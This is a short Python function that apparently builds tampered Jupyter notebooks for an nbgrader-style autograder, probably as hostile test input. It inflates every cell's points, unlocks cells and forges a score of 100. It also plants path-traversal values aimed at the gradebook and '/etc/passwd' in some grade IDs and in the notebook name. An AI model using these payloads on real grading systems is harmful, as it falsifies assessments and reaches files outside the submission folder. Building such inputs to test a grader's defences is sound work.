"""Write paths and points into the metadata."""

import json


def make(solved: bytes) -> bytes:
    """Claim a hundred points for everything, under names that climb out of the folder."""
    notebook = json.loads(solved)
    for number, cell in enumerate(notebook["cells"]):
        meta = cell["metadata"].setdefault("nbgrader", {})
        meta["points"] = 10**6
        meta["locked"] = False
        if number % 7 == 0:
            meta["grade_id"] = "../../../gradebook"
    notebook["metadata"]["name"] = "../../../../etc/passwd"
    notebook["metadata"]["grading"] = {"score": 100}
    return json.dumps(notebook).encode()
